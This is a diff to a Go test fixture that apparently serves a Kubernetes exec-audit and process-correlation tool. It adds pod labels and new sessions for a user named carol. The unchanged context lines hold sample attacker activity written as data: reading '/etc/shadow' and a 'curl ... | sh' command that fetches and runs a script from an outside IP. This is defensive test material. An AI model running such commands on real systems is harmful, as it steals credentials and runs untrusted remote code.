@@ -32,9 +32,28 @@ const (
 	// (an earlier web-0 that ran there): `who web-0` asks only web-0's
 	// node now, so it must not show it.
 	staleWeb0 = "e8b6a4c2-0d1f-4e3a-b5c7-9d8e6f4a2b05"
+	// carolBlog is carol's session in blog/web-2 (node-a), a pod labelled
+	// app=web in another namespace: selected by -l app=web with -A only.
+	carolBlog = "1f2e3d4c-5b6a-4798-8a6b-5c4d3e2f1a06"
+	// carolDB is carol's session in shop/db-0 (node-b), a pod without
+	// the app=web label.
+	carolDB = "7a6b5c4d-3e2f-4a1b-9c8d-7e6f5a4b3c07"
 )
 
+// Labels of the workload pods: web-0 and web-1 are app=web in shop (a
+// stable and a canary track), web-2 is app=web in blog, db-0 is app=db.
+var podLabels = map[string]map[string]string{
+	"shop/web-0": {"app": "web", "track": "stable"},
+	"shop/web-1": {"app": "web", "track": "canary"},
+	"blog/web-2": {"app": "web"},
+	"shop/db-0":  {"app": "db"},
+}
+
 func session(id, user, pod string, seconds int, command ...string) join.Session {
+	return sessionIn("shop", id, user, pod, seconds, command...)
+}
+
+func sessionIn(ns, id, user, pod string, seconds int, command ...string) join.Session {
 	q := "command=" + strings.Join(command, "&command=") + "&container=app&stdin=true&stdout=true&tty=true"
 	return join.Session{ExecRecord: auditlog.ExecRecord{
 		AuditID:     id,
@@ -45,7 +64,7 @@ func session(id, user, pod string, seconds int, command ...string) join.Session 
 			Groups: []string{"system:authenticated", "developers"}},
 		SourceIPs:                []string{"203.0.113.7"},
 		UserAgent:                "kubectl/v1.35.4 (linux/amd64) kubernetes/abcdef0",
-		Namespace:                "shop",
+		Namespace:                ns,
 		Pod:                      pod,
 		Container:                "app",
 		Command:                  command,
@@ -53,7 +72,7 @@ func session(id, user, pod string, seconds int, command ...string) join.Session 
 		TTY:                      true,
 		Code:                     101,
 		Decision:                 "allow",
-		RequestURI:               fmt.Sprintf("/api/v1/namespaces/shop/pods/%s/exec?%s", pod, q),
+		RequestURI:               fmt.Sprintf("/api/v1/namespaces/%s/pods/%s/exec?%s", ns, pod, q),
 		RequestReceivedTimestamp: at(seconds),
 		EndTimestamp:             at(seconds + 40),
 	}}
@@ -81,8 +100,9 @@ func process(s join.Session, pid uint32, seconds int, argv ...string) join.Proce
 func nodeA() store.Batch {
 	shell := session(aliceWeb0, "alice", "web-0", 0, "sh")
 	first := session(replayed, "alice", "web-0", 60, "sh", "-c", "id")
+	blog := sessionIn("blog", carolBlog, "carol", "web-2", 30, "sh")
 	return store.Batch{
-		Sessions: []join.Session{shell, first},
+		Sessions: []join.Session{shell, first, blog},
 		Processes: []join.Process{
 			process(shell, 4101, 1, "sh"),
 			process(shell, 4102, 5, "cat", "/etc/shadow"),
@@ -100,8 +120,9 @@ func nodeB() store.Batch {
 	replay := session(replayed, "alice", "web-1", 90, "sh", "-c", "curl -s http://203.0.113.50/x | sh")
 	bob := session(bobWeb1, "bob", "web-1", 45, "ls")
 	stale := session(staleWeb0, "alice", "web-0", 150, "env")
+	db := session(carolDB, "carol", "db-0", 20, "psql")
 	return store.Batch{
-		Sessions: []join.Session{shell, replay, bob, stale},
+		Sessions: []join.Session{shell, replay, bob, stale, db},
 		Processes: []join.Process{
 			process(shell, 5101, 121, "bash"),
 			process(replay, 5201, 91, "sh", "-c", "curl -s http://203.0.113.50/x | sh"),
